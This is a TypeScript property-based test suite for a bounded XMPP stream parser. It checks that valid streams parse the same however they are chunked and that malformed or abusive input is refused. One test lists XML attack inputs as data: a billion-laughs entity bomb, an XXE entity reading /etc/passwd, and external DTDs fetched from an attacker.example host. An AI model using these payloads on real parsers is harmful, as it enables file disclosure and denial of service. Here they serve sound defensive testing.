// Properties of the bounded stream parser on generated input: valid streams give the same
// elements however they are cut into chunks, and anything else (mutated streams, random text,
// DTD and entity tricks, deep nesting, huge or many attributes, endless elements) ends in a
// StreamError with the right condition, never another exception, never an element over the
// limits, and never more input held than the element limit plus one slice.
import fc from 'fast-check';
import { Element } from 'ltx';
import { describe, expect, it } from 'vitest';
import { StreamError, XmppStreamParser, type Framing, type StreamLimits } from './stream-parser';

// A failing run prints its seed and counterexample path; the fixed seed makes it replay.
const SEED = 20_261_122;
const RUNS = 300;
const TIMEOUT_MS = 30_000;

const LIMITS: StreamLimits = {
  maxStanzaBytes: 4096,
  maxDepth: 8,
  maxAttributes: 12,
  maxAttributeBytes: 512,
};
/** The parser's tokenizing slice: what it may hold beyond the element limit. */
const PIECE = 4096;

const OPEN =
  "<?xml version='1.0'?><stream:stream xmlns='jabber:client' " +
  "xmlns:stream='http://etherx.jabber.org/streams' to='example.com' version='1.0'>";

// ---- generators ----------------------------------------------------------------------

/** Characters XML 1.0 allows (no C0 controls other than tab, newline, carriage return). */
const xmlText = (maxLength: number) =>
  fc.string({ unit: 'binary', maxLength }).map((s) => [...s].filter(isXmlChar).join(''));

function isXmlChar(char: string): boolean {
  const code = char.codePointAt(0)!;
  return (
    (code >= 0x20 || code === 0x9 || code === 0xa || code === 0xd) &&
    code !== 0xfffe &&
    code !== 0xffff
  );
}

const name = fc.constantFrom('message', 'body', 'iq', 'query', 'x', 'item', 'thread', 'a-b');
const attrName = fc.constantFrom('to', 'from', 'id', 'type', 'xml:lang', 'xmlns', 'jid', 'k');

/** A stanza tree within LIMITS, serialised by ltx (which escapes what it must). */
const element: fc.Arbitrary<Element> = fc
  .letrec<{ node: Element }>((tie) => ({
    node: fc
      .record({
        name,
        attrs: fc.dictionary(attrName, xmlText(40), { maxKeys: 4 }),
        children: fc.array(fc.oneof({ depthSize: 'small' }, xmlText(30), tie('node')), {
          maxLength: 3,
          depthIdentifier: 'tree',
        }),
      })
      .map(({ name: n, attrs, children }) => {
        const el = new Element(n, attrs);
        for (const child of children) {
          if (typeof child === 'string') {
            if (child !== '') el.t(child);
          } else el.cnode(child as Element);
        }
        return el;
      }),
  }))
  .node.filter((el) => depthOf(el) <= LIMITS.maxDepth);

const stanzas = fc.array(element, { minLength: 1, maxLength: 5 });

/** Cut points for a text of `length` characters. */
function chunked(text: string, cuts: number[]): string[] {
  const points = [...new Set(cuts.map((c) => c % (text.length + 1)))].sort((a, b) => a - b);
  const chunks: string[] = [];
  let at = 0;
  for (const point of points) {
    if (point > at) chunks.push(text.slice(at, point));
    at = Math.max(at, point);
  }
  chunks.push(text.slice(at));
  return chunks.filter((c) => c !== '');
}

const cuts = fc.array(fc.nat(), { maxLength: 20 });

type Mutation =
  | { kind: 'insert'; at: number; text: string }
  | { kind: 'delete'; at: number; length: number }
  | { kind: 'replace'; at: number; text: string };

const fragment = fc.oneof(
  fc.constantFrom(
    '<',
    '>',
    '/',
    '</',
    '/>',
    '&',
    '&amp;',
    '&lt',
    '&#',
    '&#x0;',
    '&#xD800;',
    '&bogus;',
    "'",
    '"',
    '=',
    '<!--',
    '<?',
    '?>',
    '<![CDATA[',
    ']]>',
    '<!DOCTYPE x>',
    '\u0000',
    '\ufffd',
    ' ',
  ),
  fc.string({ unit: 'binary', maxLength: 4 }),
);

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('insert' as const), at: fc.nat(), text: fragment }),
  fc.record({
    kind: fc.constant('delete' as const),
    at: fc.nat(),
    length: fc.integer({ min: 1, max: 8 }),
  }),
  fc.record({ kind: fc.constant('replace' as const), at: fc.nat(), text: fragment }),
);

function mutate(text: string, mutations: Mutation[]): string {
  let out = text;
  for (const m of mutations) {
    const at = m.at % (out.length + 1);
    if (m.kind === 'insert') out = out.slice(0, at) + m.text + out.slice(at);
    else if (m.kind === 'delete') out = out.slice(0, at) + out.slice(at + m.length);
    else out = out.slice(0, at) + m.text + out.slice(at + m.text.length);
  }
  return out;
}

// ---- helpers ---------------------------------------------------------------------------

function depthOf(el: Element): number {
  let deepest = 0;
  for (const child of el.children) {
    if (typeof child !== 'string') deepest = Math.max(deepest, depthOf(child as Element));
  }
  return deepest + 1;
}

/** What the parser counts against maxStanzaBytes for an element (names, attributes, text). */
function counted(el: Element): number {
  let total = el.name.length * 2 + 5;
  for (const [key, value] of Object.entries(el.attrs))
    total += key.length + String(value).length + 4;
  for (const child of el.children) {
    total += typeof child === 'string' ? child.length : counted(child as Element);
  }
  return total;
}

/** Every element within the limits: depth, attribute count and size, counted size. */
function withinLimits(el: Element, limits: StreamLimits, depth = 1): boolean {
  if (depth > limits.maxDepth) return false;
  const attrs = Object.entries(el.attrs);
  if (attrs.length > limits.maxAttributes) return false;
  if (attrs.some(([k, v]) => k.length + String(v).length > limits.maxAttributeBytes)) return false;
  return el.children.every(
    (c) => typeof c === 'string' || withinLimits(c as Element, limits, depth + 1),
  );
}

interface Outcome {
  elements: Element[];
  error: unknown;
  /** Characters written before the error (or all of them). */
  fed: number;
}

/** Feeds the chunks; stops at the first exception, which is returned, not thrown. */
function run(chunks: string[], framing: Framing = 'stream', limits = LIMITS): Outcome {
  const parser = new XmppStreamParser(limits, framing);
  const elements: Element[] = [];
  let fed = 0;
  for (const chunk of chunks) {
    fed += chunk.length;
    try {
      for (const event of parser.write(chunk)) {
        if (event.kind === 'element') elements.push(event.element);
      }
    } catch (error) {
      // Once failed, the parser refuses everything with the same error.
      let again: unknown = null;
      try {
        parser.write('<message/>');
      } catch (later) {
        again = later;
      }
      expect(again).toBe(error);
      return { elements, error, fed };
    }
  }
  return { elements, error: null, fed };
}

function conditionOf(error: unknown): string | null {
  if (error === null) return null;
  expect(error).toBeInstanceOf(StreamError);
  return (error as StreamError).condition;
}

const settings = { seed: SEED, numRuns: RUNS };

// ---- properties --------------------------------------------------------------------------

describe('XmppStreamParser properties', () => {
  it(
    'yields the same elements for a valid stream however it is cut, equal to what was sent',
    () => {
      fc.assert(
        fc.property(stanzas, cuts, (sent, at) => {
          const text = OPEN + sent.map((s) => s.toString()).join('');
          const whole = run([text]);
          const split = run(chunked(text, at));
          expect(whole.error).toBeNull();
          expect(split.error).toBeNull();
          const expected = sent.map((s) => s.toString());
          expect(whole.elements.map((e) => e.toString())).toEqual(expected);
          expect(split.elements.map((e) => e.toString())).toEqual(expected);
        }),
        settings,
      );
    },
    TIMEOUT_MS,
  );

  it(
    'ignores whitespace keepalives between elements, however many, without counting them',
    () => {
      const keepalive = fc.constantFrom(' ', '\n', '\r\n', '\t', '  ');
      fc.assert(
        fc.property(
          stanzas,
          fc.array(fc.tuple(fc.nat(), keepalive, fc.integer({ min: 1, max: 3000 }))),
          (sent, pauses) => {
            // Each stanza is one chunk; between them, runs of keepalives, one chunk each.
            const chunks: string[] = [OPEN];
            for (const [i, stanza] of sent.entries()) {
              for (const [at, blank, count] of pauses) {
                if (at % sent.length === i) for (let k = 0; k < count; k++) chunks.push(blank);
              }
              chunks.push(stanza.toString());
            }
            const { elements, error } = run(chunks, 'stream', {
              ...LIMITS,
              maxStanzaBytes: 1024,
            });
            expect(error).toBeNull();
            expect(elements.map((e) => e.toString())).toEqual(sent.map((s) => s.toString()));
          },
        ),
        { ...settings, numRuns: 100 },
      );
    },
    TIMEOUT_MS,
  );

  it(
    'does the same for WebSocket frames, one element per frame',
    () => {
      fc.assert(
        fc.property(stanzas, (sent) => {
          const frames = [
            "<open xmlns='urn:ietf:params:xml:ns:xmpp-framing' to='example.com' version='1.0'/>",
            ...sent.map((s) => s.toString()),
          ];
          const { elements, error } = run(frames, 'websocket');
          expect(error).toBeNull();
          expect(elements.map((e) => e.toString())).toEqual(sent.map((s) => s.toString()));
        }),
        settings,
      );
    },
    TIMEOUT_MS,
  );

  it(
    'only ever fails with a StreamError on mutated streams, and yields nothing over the limits',
    () => {
      fc.assert(
        fc.property(
          stanzas,
          fc.array(mutation, { minLength: 1, maxLength: 6 }),
          cuts,
          fc.constantFrom<Framing>('stream', 'websocket'),
          (sent, mutations, at, framing) => {
            const body = sent.map((s) => s.toString()).join('');
            const text = mutate(framing === 'stream' ? OPEN + body : body, mutations);
            const { elements, error } = run(chunked(text, at), framing);
            conditionOf(error);
            for (const el of elements) {
              expect(withinLimits(el, LIMITS)).toBe(true);
              expect(counted(el)).toBeLessThanOrEqual(LIMITS.maxStanzaBytes);
            }
          },
        ),
        settings,
      );
    },
    TIMEOUT_MS,
  );

  it(
    'only ever fails with a StreamError on random text, whole or in chunks',
    () => {
      const xmlish = fc.string({ unit: fragment, maxLength: 60 });
      fc.assert(
        fc.property(
          fc.oneof(xmlish, fc.string({ unit: 'binary', maxLength: 200 })),
          cuts,
          fc.boolean(),
          (noise, at, opened) => {
            const text = opened ? OPEN + noise : noise;
            const { elements, error } = run(chunked(text, at));
            conditionOf(error);
            for (const el of elements) expect(withinLimits(el, LIMITS)).toBe(true);
          },
        ),
        { ...settings, numRuns: 500 },
      );
    },
    TIMEOUT_MS,
  );

  it(
    'refuses DOCTYPEs, entity declarations and undefined entities wherever they are put',
    () => {
      const tricks = fc.constantFrom(
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">' +
          '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>',
        '<!DOCTYPE m [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE m PUBLIC "-//x//y" "http://attacker.example/evil.dtd">',
        '<!ENTITY % p SYSTEM "http://attacker.example/p.dtd">%p;',
        '<!-- hidden -->',
        '<?xml-stylesheet href="x"?>',
      );
      fc.assert(
        fc.property(stanzas, tricks, fc.nat(), cuts, (sent, trick, where, at) => {
          const body = sent.map((s) => s.toString()).join('');
          // Anywhere after the stream header: between, inside tags, inside text.
          const point = where % (body.length + 1);
          const text = OPEN + body.slice(0, point) + trick + body.slice(point);
          const { elements, error } = run(chunked(text, at));
          expect(['restricted-xml', 'not-well-formed']).toContain(conditionOf(error));
          for (const el of elements) expect(el.toString()).not.toContain('lollol');
        }),
        settings,
      );
      const entityUse = fc.constantFrom(
        '&lol3;',
        '&xxe;',
        '&undefined;',
        '&#xZZ;',
        '&#xD800;',
        '&#0;',
        '&;',
        '& x;',
      );
      fc.assert(
        fc.property(entityUse, cuts, (entity, at) => {
          const text = `${OPEN}<message><body>a${entity}b</body></message>`;
          expect(conditionOf(run(chunked(text, at)).error)).toBe('not-well-formed');
        }),
        settings,
      );
      // ltx takes an ampersand that no semicolon follows literally (lenient, never expanded).
      fc.assert(
        fc.property(fc.constantFrom('&amp', '&', '&lol', '&#38'), cuts, (bare, at) => {
          const text = `${OPEN}<message><body>a${bare}</body></message>`;
          const { elements, error } = run(chunked(text, at));
          expect(error).toBeNull();
          expect(elements[0]!.getChildText('body')).toBe(`a${bare}`);
        }),
        settings,
      );
    },
    TIMEOUT_MS,
  );

  it(
    'refuses nesting deeper than maxDepth and accepts up to it',
    () => {
      fc.assert(
        fc.property(fc.integer({ min: 1, max: 3 * LIMITS.maxDepth }), cuts, (depth, at) => {
          const inner = '<x>'.repeat(depth - 1) + '</x>'.repeat(depth - 1);
          const text = `${OPEN}<message>${inner}</message>`;
          const { elements, error } = run(chunked(text, at));
          if (depth > LIMITS.maxDepth) {
            expect(conditionOf(error)).toBe('policy-violation');
            expect(elements).toEqual([]);
          } else {
            expect(error).toBeNull();
            expect(depthOf(elements[0]!)).toBe(depth);
          }
        }),
        settings,
      );
    },
    TIMEOUT_MS,
  );

  it(
    'refuses more than maxAttributes attributes and attributes over maxAttributeBytes',
    () => {
      fc.assert(
        fc.property(
          fc.integer({ min: 0, max: 3 * LIMITS.maxAttributes }),
          fc.integer({ min: 0, max: 3 * LIMITS.maxAttributeBytes }),
          fc.integer({ min: 1, max: 3 }),
          cuts,
          (count, size, level, at) => {
            const attrs = Array.from({ length: count }, (_, i) => ` a${i}='v'`).join('');
            const big = ` big='${'z'.repeat(size)}'`;
            // The attributes sit on the stanza or on a child of some depth.
            const open = '<x>'.repeat(level - 1);
            const close = '</x>'.repeat(level - 1);
            const text = `${OPEN}<message>${open}<item${attrs}${big}/>${close}</message>`;
            const { elements, error } = run(chunked(text, at));
            const tooMany = count + 1 > LIMITS.maxAttributes;
            const tooBig = 'big'.length + size > LIMITS.maxAttributeBytes;
            if (tooMany || tooBig) {
              expect(conditionOf(error)).toBe('policy-violation');
              expect(elements).toEqual([]);
            } else {
              expect(error).toBeNull();
              expect(elements).toHaveLength(1);
            }
          },
        ),
        settings,
      );
    },
    TIMEOUT_MS,
  );

  it(
    'refuses an element over maxStanzaBytes, and accepts one well under it',
    () => {
      fc.assert(
        fc.property(
          fc.integer({ min: 0, max: 4 * LIMITS.maxStanzaBytes }),
          fc.constantFrom('text', 'attribute', 'children'),
          cuts,
          (size, where, at) => {
            let stanza: string;
            if (where === 'text') stanza = `<message><body>${'b'.repeat(size)}</body></message>`;
            else if (where === 'attribute')
              stanza = `<message id='${'i'.repeat(Math.min(size, 400))}'>${'<x/>'.repeat(size / 4)}</message>`;
            else stanza = `<message>${'<x/>'.repeat(size / 4)}</message>`;
            const { elements, error } = run(chunked(OPEN + stanza, at));
            if (error !== null) {
              expect(conditionOf(error)).toBe('policy-violation');
              // Refused only when it really is large.
              expect(stanza.length).toBeGreaterThan(LIMITS.maxStanzaBytes / 2);
            } else {
              expect(counted(elements[0]!)).toBeLessThanOrEqual(LIMITS.maxStanzaBytes);
            }
            if (stanza.length > 2 * LIMITS.maxStanzaBytes) {
              expect(conditionOf(error)).toBe('policy-violation');
            }
          },
        ),
        settings,
      );
    },
    TIMEOUT_MS,
  );

  it(
    'cuts off an element that never ends before holding more than the limit and one slice',
    () => {
      const unfinished = fc.constantFrom(
        '<message><body>',
        "<message id='",
        '<message ',
        '<message><body>&am',
        '<message><x><y><z>',
      );
      const filler = fc.constantFrom('y', ' ', 'é', 'ab cd', '\n', '中文');
      fc.assert(
        fc.property(
          unfinished,
          filler,
          fc.integer({ min: 1, max: 3000 }),
          (start, fill, chunkChars) => {
            const parser = new XmppStreamParser(LIMITS, 'stream');
            parser.write(OPEN);
            let fed = 0;
            let error: unknown = null;
            const chunk = fill.repeat(Math.max(1, Math.floor(chunkChars / fill.length)));
            try {
              parser.write(start);
              fed += start.length;
              while (fed < 20 * LIMITS.maxStanzaBytes) {
                fed += chunk.length;
                parser.write(chunk);
              }
            } catch (e) {
              error = e;
            }
            expect(conditionOf(error)).toBe('policy-violation');
            // Refused by the time the unfinished input passes the limit, one slice and a chunk.
            expect(fed).toBeLessThanOrEqual(LIMITS.maxStanzaBytes + 2 * PIECE + chunk.length);
          },
        ),
        settings,
      );
    },
    TIMEOUT_MS,
  );
});
